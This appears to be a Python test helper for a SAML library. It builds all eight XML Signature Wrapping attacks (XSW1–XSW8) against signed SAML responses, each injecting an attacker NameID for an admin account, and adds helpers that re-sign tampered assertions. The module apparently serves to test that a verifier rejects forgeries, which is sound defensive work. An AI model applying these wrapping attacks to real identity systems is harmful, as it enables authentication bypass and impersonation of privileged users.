"""Tampering with real signed responses: decode, edit with lxml, re-encode."""

from __future__ import annotations

import base64
import copy
from typing import Any

from lxml import etree

from authsome import _saml

P = f"{{{_saml.NS_SAMLP}}}"
A = f"{{{_saml.NS_SAML}}}"
DS = f"{{{_saml.NS_DS}}}"
EVIL_NAME_ID = "admin@acme.example"


def decode(saml_response: str) -> Any:
    return etree.fromstring(base64.b64decode(saml_response))


def encode(root: Any) -> str:
    return base64.b64encode(etree.tostring(root)).decode("ascii")


def assertion_of(root: Any) -> Any:
    return root.find(f"{A}Assertion")


def signature_of(element: Any) -> Any:
    return element.find(f"{DS}Signature")


def without_signature(element: Any) -> Any:
    clone = copy.deepcopy(element)
    signature = signature_of(clone)
    if signature is not None:
        clone.remove(signature)
    return clone


def evil_copy(element: Any, *, keep_signature: bool = False) -> Any:
    """A copy with a new ID and the attacker's NameID."""
    clone = copy.deepcopy(element) if keep_signature else without_signature(element)
    clone.set("ID", "_evil")
    for name_id in clone.iter(f"{A}NameID"):
        name_id.text = EVIL_NAME_ID
    return clone


# -- the XML signature wrapping families (Somorovsky et al., as SAML Raider builds them)


def xsw1(response: Any) -> Any:
    """Response signed: an evil Response whose Signature holds the original Response."""
    evil = evil_copy(response)
    signature = copy.deepcopy(signature_of(response))
    signature.append(without_signature(response))
    evil.insert(1, signature)
    return evil


def xsw2(response: Any) -> Any:
    """Response signed: an evil Response with the original Response detached beside
    the Signature."""
    evil = evil_copy(response)
    evil.insert(1, without_signature(response))
    evil.insert(2, copy.deepcopy(signature_of(response)))
    return evil


def xsw3(response: Any) -> Any:
    """Assertion signed: an unsigned evil Assertion before the original."""
    original = assertion_of(response)
    response.insert(response.index(original), evil_copy(original))
    return response


def xsw4(response: Any) -> Any:
    """Assertion signed: an evil Assertion wrapping the original."""
    original = assertion_of(response)
    evil = evil_copy(original)
    response.replace(original, evil)
    evil.append(original)
    return response


def xsw5(response: Any) -> Any:
    """Assertion signed: the evil Assertion carries the signature, an unsigned copy
    of the original is appended to the Response."""
    original = assertion_of(response)
    response.replace(original, evil_copy(original, keep_signature=True))
    response.append(without_signature(original))
    return response


def xsw6(response: Any) -> Any:
    """Assertion signed: the evil Assertion carries the signature, which holds the
    original Assertion."""
    original = assertion_of(response)
    evil = evil_copy(original, keep_signature=True)
    signature_of(evil).append(without_signature(original))
    response.replace(original, evil)
    return response


def xsw7(response: Any) -> Any:
    """Assertion signed: the original inside an Extensions element, an unsigned evil
    Assertion in its place."""
    original = assertion_of(response)
    evil = evil_copy(original)
    response.replace(original, evil)
    extensions = etree.Element(f"{P}Extensions")
    extensions.append(original)
    response.insert(1, extensions)
    return response


def xsw8(response: Any) -> Any:
    """Assertion signed: the evil Assertion carries the signature, with an Object
    holding the unsigned original."""
    original = assertion_of(response)
    evil = evil_copy(original, keep_signature=True)
    signature = signature_of(evil)
    holder = etree.SubElement(signature, f"{DS}Object")
    holder.append(without_signature(original))
    response.replace(original, evil)
    return response


def resign_assertion(response: Any, key_pem: str, certificate_pem: str) -> Any:
    """Replace the assertion by a copy re-signed (RSA-SHA256, enveloped) with the
    given key: for content the IdP under test cannot be asked to produce."""
    from signxml import XMLSigner  # the verifier's own library, used the other way

    original = assertion_of(response)
    unsigned = without_signature(original)
    # Exclusive canonicalization, as IdPs use: the signature survives being put
    # back under the Response, whose namespace declarations it then sees.
    signer = XMLSigner(c14n_algorithm="http://www.w3.org/2001/10/xml-exc-c14n#")
    signed = signer.sign(unsigned, key=key_pem.encode(), cert=certificate_pem)
    # Spliced in as text: moving the element with lxml would rename its ds: prefix to
    # the Response's prefix for the same namespace, which changes what was signed.
    placeholder = etree.Comment("re-signed assertion")
    response.replace(original, placeholder)
    text = etree.tostring(response).replace(etree.tostring(placeholder), etree.tostring(signed))
    return etree.fromstring(text)


def resign_response(response: Any, key_pem: str, certificate_pem: str) -> Any:
    """The Response signed anew (RSA-SHA256, enveloped, exclusive c14n) with the given
    key, replacing any signature it had: as an IdP signs after encrypting."""
    from signxml import XMLSigner

    signer = XMLSigner(c14n_algorithm="http://www.w3.org/2001/10/xml-exc-c14n#")
    return signer.sign(without_signature(response), key=key_pem.encode(), cert=certificate_pem)
